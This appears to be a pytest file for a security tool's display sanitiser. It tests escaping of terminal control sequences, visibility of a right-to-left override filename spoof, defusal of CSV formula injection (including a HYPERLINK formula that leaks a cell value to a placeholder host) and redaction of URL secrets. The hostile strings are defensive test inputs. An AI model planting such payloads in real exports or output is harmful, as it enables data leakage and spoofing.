"""The display boundary: control characters shown, formulas defused, URL secrets hidden."""

from __future__ import annotations

import pytest

from secbench_tui.core.untrusted import csv_cell, inert, inert_line, redact_url


def test_inert_shows_escape_sequences_and_keeps_newlines() -> None:
    hostile = "ok\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x9b\x7f\nnext\tcol"
    shown = inert(hostile)
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown
    assert "\x7f" not in shown
    assert shown == "ok\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mred\\x9b\\x7f\nnext\tcol"


def test_inert_line_keeps_one_line() -> None:
    assert inert_line("a\nb\tc\rd") == "a\\nb\\tc\\x0dd"


def test_direction_overrides_are_visible() -> None:
    assert inert("admin\u202egnp.exe") == "admin\\u202egnp.exe"


def test_inert_of_none_and_numbers() -> None:
    assert inert(None) == ""
    assert inert(3) == "3"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://x"&A1,"click")', '\'=HYPERLINK("http://x"&A1,"click")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-0.5", "-0.5"),
        ("+3e5", "+3e5"),
        ("plain text", "plain text"),
        (" =1+1", "' =1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("\u3000\u200b+1+1", "'\u3000\u200b+1+1"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
        ("\ufe62cmd", "'\ufe62cmd"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("\u2212 2+3", "'\u2212 2+3"),
        (" -0.5", " -0.5"),
        ("   ", "   "),
        ("a = b", "a = b"),
        (-4.0, -4.0),
        (None, None),
    ],
)
def test_csv_cell(cell: object, expected: object) -> None:
    assert csv_cell(cell) == expected


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://user:pass@host:8080/api/v1", "http://***@host:8080/api/v1"),
        ("https://host/v1?api_key=sekrit&x=1", "https://host/v1?api_key=***&x=***"),
        ("https://openrouter.ai/api/v1", "https://openrouter.ai/api/v1"),
        ("http://127.0.0.1:9/api/v1#tok", "http://127.0.0.1:9/api/v1#***"),
        ("http://[::1", "http://[::1"),  # unreadable, but holds no secret
        ("http://user:pass@[::1", "***"),  # unreadable: what could be a secret is not shown
        ("http://[::1?k=sekrit", "***"),
        ("", ""),
    ],
)
def test_redact_url(url: str, expected: str) -> None:
    assert redact_url(url) == expected
    if url:
        assert "pass" not in redact_url(url) and "sekrit" not in redact_url(url)
